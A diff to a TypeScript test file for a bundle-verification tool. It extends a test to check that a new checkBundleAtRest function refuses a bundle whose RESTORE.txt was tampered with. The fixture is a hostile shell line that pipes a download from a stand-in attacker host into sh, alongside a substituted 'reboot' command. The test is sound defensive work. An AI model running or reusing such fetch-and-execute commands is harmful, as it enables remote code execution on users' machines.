@@ -15,7 +15,7 @@ import { buffer } from 'node:stream/consumers';
 import { execa } from 'execa';
 import { ZferryError } from '../../src/errors.js';
 import {
-  FORMAT_VERSION, finishBundle, parseManifest, restoreText, sha256sumsText, verifyArrived, verifyBundle, withRestore, type Manifest,
+  FORMAT_VERSION, checkBundleAtRest, finishBundle, parseManifest, restoreText, sha256sumsText, verifyArrived, verifyBundle, withRestore, type Manifest,
 } from '../../src/bundle/index.js';
 import { manifestText } from '../../src/bundle/manifest.js';
 import { writeStream } from '../../src/pipeline/index.js';
@@ -135,7 +135,7 @@ async function bundleOnDisk(version: 1 | 2): Promise<{ dir: string; m: Manifest 
 
 const EVIL = '#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n';
 
-test('verifyBundle and verifyArrived refuse a format 2 bundle whose RESTORE.txt was replaced, naming RESTORE.txt', async () => {
+test('verifyBundle, verifyArrived and checkBundleAtRest refuse a format 2 bundle whose RESTORE.txt was replaced, naming RESTORE.txt', async () => {
   const { dir, m } = await bundleOnDisk(2);
   try {
     assert.equal((await verifyBundle(dir)).restoreCovered, true);
@@ -147,6 +147,7 @@ test('verifyBundle and verifyArrived refuse a format 2 bundle whose RESTORE.txt 
     await writeFile(join(dir, 'RESTORE.txt'), EVIL);
     await assert.rejects(verifyBundle(dir), refusal(/RESTORE\.txt: size is \d+ bytes, manifest\.json says \d+: not the RESTORE\.txt this bundle was exported with; do not run it$/));
     await assert.rejects(verifyArrived(dir, m, arrived), refusal(/RESTORE\.txt: size is/));
+    await assert.rejects(checkBundleAtRest(dir, m), refusal(/RESTORE\.txt: size is/));
     // Same length, other bytes: the sha256 catches it.
     const original = restoreText(m);
     await writeFile(join(dir, 'RESTORE.txt'), original.replace('set -euo pipefail', 'reboot           '));
